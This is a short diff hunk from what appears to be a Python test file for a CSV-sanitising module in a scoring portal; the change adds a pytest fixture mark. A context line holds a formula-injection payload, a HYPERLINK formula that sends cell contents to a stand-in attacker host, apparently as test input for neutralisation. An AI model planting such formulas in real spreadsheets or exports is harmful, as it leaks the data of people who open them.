@@ -17,6 +17,8 @@ from portal.csvsafe import SafeDictWriter, SafeWriter, neutralized
 from scoring import services
 from scoring.models import ScoreSnapshot
 
+pytestmark = pytest.mark.usefixtures("rules_2022_only")
+
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 ROOT = Path(__file__).resolve().parents[2]
 
